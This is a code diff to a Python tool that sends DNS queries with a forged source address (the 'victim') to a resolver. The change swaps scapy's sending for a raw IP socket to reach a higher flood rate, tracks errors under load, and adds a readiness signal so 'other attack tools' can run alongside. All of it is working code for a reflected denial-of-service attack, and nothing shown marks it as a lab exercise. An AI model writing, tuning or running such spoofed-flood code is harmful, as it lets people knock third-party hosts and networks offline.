@@ -16,6 +16,7 @@ from __future__ import annotations
 import argparse
 import json
 import random
+import socket
 import sys
 import time
 
@@ -39,19 +40,33 @@ def build_queries(victim: str, resolver: str, qname: str, qtype: int, count: int
 
 def send_spoofed(victim: str, resolver: str, qname: str, *, qtype: int = 16, rate: float = 200,
                  seconds: float = 5, seed: int = 1) -> dict:
-    """Send `rate` spoofed queries per second for `seconds`; return a summary."""
-    from scapy.config import conf
-    from scapy.sendrecv import send
+    """Send `rate` spoofed queries per second for `seconds`; return a summary.
 
+    scapy crafts every packet up front; a raw IPPROTO_RAW socket (the kernel
+    takes the IP header as given, forged source included) sends them on a
+    fixed schedule. scapy's own `send()` re-routes and re-serializes each
+    packet and manages only a few hundred per second, below the asked rate.
+    """
     count = max(1, int(rate * seconds))
-    packets = build_queries(victim, resolver, qname, qtype, count, seed)
-    conf.verb = 0
-    start = time.time()
-    # One raw socket for all packets (scapy's send reuses it for a list); `inter`
-    # paces them. The kernel accepts the forged source on an IP_HDRINCL socket.
-    send(packets, inter=1.0 / rate, verbose=False)
-    end = time.time()
-    return {"sent": count, "qname": qname, "qtype": qtype, "src": victim, "dst": resolver,
+    wire = [bytes(p) for p in build_queries(victim, resolver, qname, qtype, count, seed)]
+    # Importing scapy and crafting take seconds; say when sending starts, so the
+    # other attack tools can be started to run alongside, not before.
+    print(json.dumps({"ready": count}), flush=True)
+    sent = errors = 0
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
+        start = time.time()
+        t0 = time.monotonic()
+        for i, data in enumerate(wire):
+            delay = t0 + i / rate - time.monotonic()
+            if delay > 0:
+                time.sleep(delay)
+            try:
+                sock.sendto(data, (resolver, 0))
+                sent += 1
+            except OSError:  # e.g. ENOBUFS under load: count it, keep the schedule
+                errors += 1
+        end = time.time()
+    return {"sent": sent, "errors": errors, "qname": qname, "qtype": qtype, "src": victim, "dst": resolver,
             "start": start, "end": end}
 
 
